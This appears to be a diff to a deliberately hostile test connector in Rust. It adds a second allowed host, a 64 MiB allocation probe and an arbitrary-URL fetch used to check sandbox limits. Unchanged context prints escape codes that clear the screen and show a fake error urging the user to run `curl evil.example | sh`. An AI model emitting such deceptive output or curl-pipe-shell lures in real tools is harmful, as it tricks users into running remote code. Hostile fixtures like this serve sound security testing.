@@ -63,6 +63,7 @@ impl Connector for Hostile {
         .permissions(
             Permissions::new()
                 .host("allowed.example")
+                .host("second.example")
                 .bearer("token")
                 .oauth2(
                     "oauth_token",
@@ -158,6 +159,16 @@ impl Connector for Hostile {
                             &format!("\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n{n}"),
                         );
                     }
+                }
+                if arg == "alloc-64" {
+                    std::hint::black_box(vec![1u8; 64 << 20]);
+                }
+                if let Some(url) = arg.strip_prefix("fetch:") {
+                    let outcome = match http::get(url).send() {
+                        Ok(response) => format!("HTTP {}", response.status()),
+                        Err(error) => format!("refused: {error}"),
+                    };
+                    return Ok(report(arg, outcome));
                 }
                 let mut batch = Batch::new(entity, &[column]);
                 for r in refs {
